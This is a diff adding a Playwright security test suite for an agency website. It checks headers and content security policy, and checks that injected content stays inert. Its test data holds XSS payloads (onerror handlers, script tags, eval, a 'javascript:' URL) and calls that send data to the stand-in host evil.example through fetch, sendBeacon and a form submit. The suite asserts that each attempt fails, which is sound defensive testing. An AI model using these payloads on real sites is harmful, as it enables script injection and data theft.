@@ -1,0 +1,247 @@
+/** What an attacker can reach: pages keep to their policy, and an agency whose every text is an attack makes an ordinary site. */
+import type { Page } from '@playwright/test';
+import { SECURITY_HEADERS } from '../../src/gateway/security-headers.ts';
+import { plainPicture } from './support/camera.ts';
+import { startStack } from './support/global-setup.ts';
+import { expect, test } from './support/test.ts';
+
+/** One of every kind of page; then the other language, and addresses that are none, the last of which a function answers. */
+const KINDS = [
+  '/',
+  '/sobre-nos',
+  '/contato',
+  '/seja-amz',
+  '/seja-amazing-face',
+  '/amazing-face',
+  '/modelos',
+  '/favoritos',
+  '/privacidade',
+  '/en',
+  '/en/favourites',
+  '/nada/disso',
+  '/en/nope',
+  '/modelos/999999/x',
+];
+
+test.describe('every page', { tag: ['@desktop', '@en'] }, () => {
+  for (const path of KINDS) {
+    test(`says what it may do: ${path}`, async ({ request }) => {
+      const answer = await request.get(path);
+      for (const [name, value] of Object.entries(SECURITY_HEADERS))
+        expect([name, answer.headers()[name.toLowerCase()]]).toEqual([name, value]);
+      const [head = ''] = (await answer.text()).split('</head>');
+      const [, policy = ''] = /<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="([^"]*)">/.exec(head) ?? [];
+      expect(policy).toMatch(/^default-src 'none'; /);
+      expect(policy).toMatch(/; script-src 'self' 'sha256-[^;]*; style-src 'self' 'sha256-/);
+      expect(policy).not.toMatch(/unsafe|(?:^|[ ;])(?:\*|http:|data:)(?=[ ;]).*script-src/);
+    });
+  }
+});
+
+test.describe('every function', { tag: ['@desktop', '@en'] }, () => {
+  for (const [method, path, status, kept] of [
+    ['GET', '/api/options?language=en', 200, 'public, max-age=300'],
+    ['GET', '/api/options?language=xx', 400, 'no-store'],
+    ['GET', '/api/composite/0', 404, 'no-store'],
+    ['POST', '/api/entry/contact', 400, 'no-store'],
+    ['POST', '/api/entry/other', 404, 'no-store'],
+    ['GET', '/api/rebuild', 405, 'no-store'],
+    ['GET', '/modelos/999999', 404, 'public, max-age=0, must-revalidate'],
+  ] as const) {
+    test(`answers with the headers of the pages, and says what may be kept: ${method} ${path}`, async ({ request }) => {
+      const answer = await request.fetch(path, { method });
+      const headers = answer.headers();
+      expect([answer.status(), headers['cache-control']]).toEqual([status, kept]);
+      for (const [name, value] of Object.entries(SECURITY_HEADERS)) expect([name, headers[name.toLowerCase()]]).toEqual([name, value]);
+    });
+  }
+});
+
+test.describe('code that somebody brought into a page', { tag: ['@desktop', '@en'] }, () => {
+  test.use({ expectedErrors: [/Content Security Policy|TrustedHTML|TrustedScript|Failed to load resource/] });
+
+  test('does not run, load or send anything', async ({ page }) => {
+    const asked: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) asked.push(request.url());
+    });
+    await page.goto('/en/models');
+    const outcomes = await page.evaluate(async () => {
+      const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        if (text !== '') element.append(text);
+        document.body.append(element);
+        return element;
+      };
+      const attempts: Readonly<Record<string, () => unknown>> = {
+        handler: () => add('img', { src: 'data:,', onerror: 'window.hacked = 1' }),
+        script: () => add('script', {}, 'window.hacked = 1'),
+        foreignScript: () => add('script', { src: 'https://evil.example/a.js' }),
+        markup: () => (document.body.appendChild(document.createElement('p')).innerHTML = '<img src=x onerror="window.hacked = 1">'),
+        // Later, because what a test calls at once may evaluate anything.
+        code: () =>
+          new Promise<void>((resolve, reject) => {
+            setTimeout(() => {
+              try {
+                (0, eval)('window.hacked = 1');
+                resolve();
+              } catch (error) {
+                reject(error instanceof Error ? error : new Error());
+              }
+            });
+          }),
+        style: () => getComputedStyle(add('p', { style: 'position: fixed' })).position,
+        sheet: () => getComputedStyle(document.body, add('style', {}, 'body { outline: 9px solid }').id).outlineWidth,
+        frame: () => add('iframe', { src: 'https://evil.example/' }),
+        plugin: () => add('object', { data: 'https://evil.example/' }),
+        base: () => {
+          add('base', { href: 'https://evil.example/' });
+          return document.baseURI;
+        },
+        send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
+        beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
+        form: () => {
+          const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement;
+          form.submit();
+        },
+      };
+      const results: Record<string, string> = {};
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          const result: unknown = await attempt();
+          results[name] = typeof result === 'string' ? result : 'silent';
+        } catch (error) {
+          results[name] = error instanceof Error ? error.name : 'error';
+        }
+      }
+      return results;
+    });
+    expect(outcomes).toMatchObject({ markup: 'TypeError', code: expect.stringMatching(/Error$/), send: 'TypeError' });
+    expect(outcomes).toMatchObject({
+      style: 'static',
+      sheet: expect.not.stringContaining('9px'),
+      base: expect.not.stringContaining('evil'),
+    });
+    await page.waitForTimeout(300);
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(asked).toEqual([]);
+    expect(page.url()).toMatch(/\/en\/models$/);
+  });
+});
+
+test.describe('an agency whose texts are attacks', { tag: ['@desktop', '@en'] }, () => {
+  // One site for all of them.
+  test.describe.configure({ mode: 'default' });
+  let stack: Awaited<ReturnType<typeof startStack>>;
+  let strangers: string[];
+
+  test.beforeAll(async () => {
+    stack = await startStack('--hostile');
+  });
+  test.afterAll(async () => {
+    await stack.stop();
+  });
+  test.beforeEach(async ({ page }) => {
+    strangers = [];
+    page.on('dialog', (dialog) => {
+      strangers.push(`dialog: ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.on('request', (request) => {
+      const { protocol, origin, hostname } = new URL(request.url());
+      const isKnown = [stack.site, stack.backOffice].includes(origin) || hostname === 'tile.openstreetmap.org';
+      if (/^https?:$/.test(protocol) && !isKnown) strangers.push(request.url());
+    });
+  });
+
+  /** Nothing of the content runs, loads, frames, submits or leads anywhere but to the web, the mail and the telephone. */
+  async function expectInert(page: Page): Promise<void> {
+    const found = await page.evaluate(() => {
+      const all = Array.from(document.querySelectorAll('*'));
+      const links = Array.from(document.querySelectorAll<HTMLAnchorElement>('a[href]'), ({ href }) => href);
+      const actions = Array.from(document.querySelectorAll<HTMLElement>('[action], [formaction]'));
+      return {
+        hacked: 'hacked' in window,
+        handlers: all.flatMap((element) => Array.from(element.attributes, ({ name }) => name).filter((name) => /^on|^srcdoc$/.test(name))),
+        links: links.filter((href) => !/^(?:https?|mailto|tel):/.test(href)),
+        strange: all
+          .filter((element) => element.matches('iframe, object, embed, base, .post [style], main link, main meta, main svg a'))
+          .map(({ tagName }) => tagName),
+        actions: actions.map((element) => element.outerHTML),
+        data: Array.from(document.querySelectorAll('script[type="application/ld+json"]'), (script) => {
+          const { '@context': context } = JSON.parse(script.textContent) as { readonly '@context'?: string };
+          return context;
+        }),
+      };
+    });
+    expect(found).toEqual({ hacked: false, handlers: [], links: [], strange: [], actions: [], data: ['https://schema.org'] });
+    expect(strangers).toEqual([]);
+  }
+
+  test('makes pages that are inert', async ({ page }) => {
+    for (const path of KINDS.slice(0, -5)) {
+      await page.goto(stack.site + path);
+      await page.evaluate(() => {
+        window.scrollTo(0, document.body.scrollHeight);
+      });
+      await page.waitForLoadState('networkidle');
+      await test.step(path, () => expectInert(page));
+    }
+  });
+
+  test('makes profiles, galleries and favourites that are inert', async ({ page }) => {
+    const index = await page.request.get(`${stack.site}/talents.json`);
+    const { talents } = (await index.json()) as { readonly talents: readonly (readonly [id: string, name: string])[] };
+    const attacks = talents.filter(([, name]) => /[<"\\\u202E]/.test(name));
+    expect(attacks.length).toBeGreaterThan(3);
+    for (const [id, name] of attacks) {
+      await page.goto(`${stack.site}/en/models/${id}`);
+      await expect(page.getByRole('heading', { level: 1 })).toContainText(name.split(' ').at(-1) ?? name);
+      await page.locator('favourite-heart button').first().click();
+      await page.locator('#book .picture').first().click();
+      await expect(page.locator('.swiper-slide img').first()).toBeVisible();
+      await test.step(name, () => expectInert(page));
+    }
+
+    await page.goto(`${stack.site}/en/favourites`);
+    await expect(page.locator('main')).toContainText('<script>window.hacked=1</script>');
+    await expectInert(page);
+    await page.getByRole('link', { name: 'Send to the agency' }).click();
+    await expect(page.getByLabel('Message')).toHaveValue(/<script>window\.hacked=1<\/script>/);
+    await expectInert(page);
+  });
+
+  test('is not helped by what an address, the storage or a file’s name says', async ({ page }) => {
+    const attack = '"><img src=x onerror="window.hacked=1">';
+    for (const path of [
+      `/en/favourites#ids=1001,${attack}`,
+      `/en/models#${attack}`,
+      `/modelos?letra=${attack}#%3Cscript%3E`,
+      `/en/models/1001/x#${attack}`,
+    ]) {
+      await page.goto(stack.site + path);
+      await page.waitForLoadState('networkidle');
+      await test.step(path, () => expectInert(page));
+    }
+
+    await page.goto(`${stack.site}/en/contact#talk=${encodeURIComponent(attack)}`);
+    await expect(page.getByLabel('Message')).toHaveValue(attack);
+    await expectInert(page);
+
+    await page.evaluate((text) => {
+      const card = { id: '1001', name: text, cover: 'javascript:window.hacked=1', heightCm: text, jeans: text, shoes: text };
+      const stranger = { ...card, id: '1002', cover: '//evil.example/x.png' };
+      localStorage.setItem('favorites', JSON.stringify({ 1001: card, 1002: stranger, [text]: card, __proto__: { hacked: 1 } }));
+    }, attack);
+    await page.goto(`${stack.site}/en/favourites`);
+    await page.waitForLoadState('networkidle');
+    await expectInert(page);
+
+    await page.goto(`${stack.site}/en/be-amz`);
+    const file = { name: `${attack}.png`, mimeType: 'image/png', buffer: await plainPicture('png') };
+    await page.locator('input[type=file]').first().setInputFiles(file);
+    await expect(page.getByRole('img', { name: /^Preview/ })).toBeVisible();
+    await expectInert(page);
+  });
+});
